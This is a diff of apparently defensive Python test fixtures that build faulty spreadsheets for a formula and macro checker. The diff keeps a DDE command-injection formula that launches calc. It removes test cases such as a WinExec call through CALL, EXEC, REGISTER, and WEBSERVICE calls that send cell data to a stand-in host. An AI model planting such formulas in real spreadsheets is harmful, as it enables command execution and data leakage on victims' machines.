@@ -92,13 +92,6 @@ def typed_over(column: int = 3) -> bytes:
     return computed(district(rows), {f"C{row}": 3 for row in (8, 9, 11, 12)})
 
 
-def hs01_text(text: str) -> bytes:
-    """A label that says something of its own."""
-    book = hs01_book(("1", 5))
-    book.worksheets[0]["B7"] = text
-    return saved(book)
-
-
 def linked(formula: str, value: Any = 5) -> bytes:
     return computed(hs01_book(("1", 5), ("1.1", formula)), {"D8": value})
 
@@ -150,7 +143,6 @@ def noted() -> bytes:
     return saved(book)
 
 
-ACTS = "!formula_that_acts"
 FILES: list[FaultyFile] = [
     faulty("nothing is wrong", lambda: figure(3)),
     faulty("zero is a figure", lambda: figure(0)),
@@ -210,50 +202,6 @@ FILES: list[FaultyFile] = [
         "a DDE link ignored by policy", lambda: with_link(b"<ddeLink/>"), "dde_link", limits={"dde": "ignore"}
     ),
     faulty("a DDE formula", lambda: linked("=cmd|'/C calc'!A0"), "!dde_link@D8"),
-    faulty("a formula that asks a web service", lambda: linked('=WEBSERVICE("http://a/")'), f"{ACTS}@D8"),
-    *(
-        faulty(f"a formula that acts: {written}", lambda written=written: linked(written), f"{ACTS}@D8")  # type: ignore[misc]
-        for written in (
-            '=_xlfn.WEBSERVICE("http://a/"&A1)',
-            '=FILTERXML(WebService ("a"),"//b")',
-            '=CALL("Kernel32","WinExec","JCJ",1)',
-            '=1+REGISTER.ID("a","b")',
-            '=REGISTER("a")',
-            '=EXEC("calc")',
-            '=RTD("a",,"b")',
-            '=_xlfn.IMAGE("http://a/b.png")',
-            '=IF(A1="x",SQL.REQUEST("a"),1)',
-        )
-    ),
-    faulty(
-        "a formula that acts, read by policy",
-        lambda: linked('=RTD("a",,"b")'),
-        "formula_that_acts@D8",
-        limits={"acting_formulas": "ignore"},
-    ),
-    *(
-        faulty(f"a formula that does not act: {written}", lambda written=written: linked(written))  # type: ignore[misc]
-        for written in (
-            '=LEN("CALL (x)")',
-            "='CALL (1)'!A1",
-            "=RECALL(1)",
-            "=CALLS(1)",
-            "=A1+EXEC",
-            '=HYPERLINK("http://a/","5")',
-            '=FILTERXML("<a>5</a>","//a")',
-        )
-    ),
-    faulty("a text that names a function", lambda: hs01_text("CALL (gọi)")),
-    faulty(
-        "a figure from another table of Google's",
-        lambda: linked('=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""a"",""b"")"),5)'),
-        "figure_from_other_file@D8",
-    ),
-    faulty(
-        "a sheet of macros",
-        lambda: with_members(saved(hs01_book(("1", 5))), {"xl/macrosheets/sheet1.xml": b"<x/>"}),
-        "macros",
-    ),
     faulty("a text that is a formula", lambda: figure("@SUM(A1)"), "formula_as_text@D8"),
     faulty("dates counted from 1904", from_1904, "dates_from_1904"),
     faulty("macros", macros, "macros", file_name="bao-cao.xlsm"),
